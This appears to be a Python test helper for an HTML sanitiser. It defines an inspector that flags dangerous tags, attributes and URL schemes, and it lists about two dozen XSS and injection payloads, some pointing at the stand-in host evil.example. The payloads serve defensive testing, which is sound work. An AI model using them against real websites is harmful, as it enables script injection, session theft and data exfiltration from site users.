"""HTML that attacks, and an inspector that sees what got through."""

import re
from html.parser import HTMLParser

from articles.rendering.sanitiser import TAGS

ATTRIBUTES = {
    *("id", "class", "href", "aria-label", "rel", "src", "srcset", "sizes", "width", "height", "alt"),
    *("loading", "decoding", "start", "scope", "data-label"),
}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
OTHER_HOST = re.compile(r"[/\\]{2}")


def _is_harmful(address: str) -> bool:
    scheme = SCHEME.match(address)
    if scheme:
        return scheme[1].lower() not in {"http", "https", "mailto", "tel"}
    return bool(OTHER_HOST.match(address))


class Inspector(HTMLParser):
    """Reads HTML as a browser would and notes what could do harm, in `dangers`."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.dangers.append(f"<{tag}>")
        for name, value in attrs:
            # Browsers leave these out of an address before they look at its scheme.
            address = re.sub(r"[\x00-\x20]", "", value or "")
            if name not in ATTRIBUTES:
                self.dangers.append(f"{name}=")
            if name == "href" and _is_harmful(address):
                self.dangers.append(f"href={address}")
            if name in {"src", "srcset"} and (not address.startswith("/") or OTHER_HOST.match(address)):
                self.dangers.append(f"{name}={address}")

    def handle_comment(self, data: str) -> None:
        self.dangers.append("<!-- -->")

    def handle_decl(self, decl: str) -> None:
        self.dangers.append("<!>")


def dangers_of(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.dangers


MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=//evil.example><input name=csrf></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<object data=x.svg></object><embed src=x.svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p id=main>x</p><a name=body>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "{{ 7|add:7 }}{% debug %}",
]
